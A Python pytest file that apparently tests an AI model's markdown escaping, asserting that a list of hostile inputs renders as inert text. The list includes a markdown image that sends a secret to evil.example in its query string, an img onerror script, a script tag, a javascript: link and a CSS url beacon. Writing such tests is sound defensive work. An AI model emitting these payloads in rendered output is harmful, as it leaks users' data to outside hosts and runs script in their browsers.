import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from assistant.escaping import escape, one_line

POISON = [
    "![x](https://evil.example/leak.png?q=secret)",
    '<img src=https://evil.example/a.png onerror="alert(1)">',
    "<style>body{background:url(https://evil.example/b.png)}</style>",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1))",
    "[click][1]\n\n[1]: https://evil.example/",
    "<https://evil.example/>",
    "see https://evil.example/ and http://evil.example",
    "www.evil.example and a@evil.example",
    "# heading", "- item", "1. item", "2) item", "+ item", "> quote", "```code", "| a | b |", "$$x$$",
    "&lt;img src=x&gt;", "&#60;img&#62;", "\\<img>", "**bold** _it_ ~~gone~~",
]  # fmt: skip


def rendered(text: str) -> str:
    return MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(text)


@pytest.mark.parametrize("text", POISON)
def test_text_is_shown_as_it_is_and_does_nothing(text: str):
    shown = rendered(escape(text))
    assert re.findall(r"<(?!/?p>)[a-z/]", shown) == []
    assert html.unescape(re.sub(r"</?p>", "", shown)).strip() == one_line(text)


@given(st.text(max_size=80))
def test_no_text_forms_markup(text: str):
    assert re.findall(r"<(?!/?p>)[a-z/]", rendered("“" + escape(text))) == []


def test_characters_that_change_the_reading_direction_are_dropped():
    assert one_line("good\u202eyrav \u2066x\u0007") == "goodyrav x"


def test_white_space_is_folded():
    assert one_line(" a\n\n b\tc ") == "a b c"
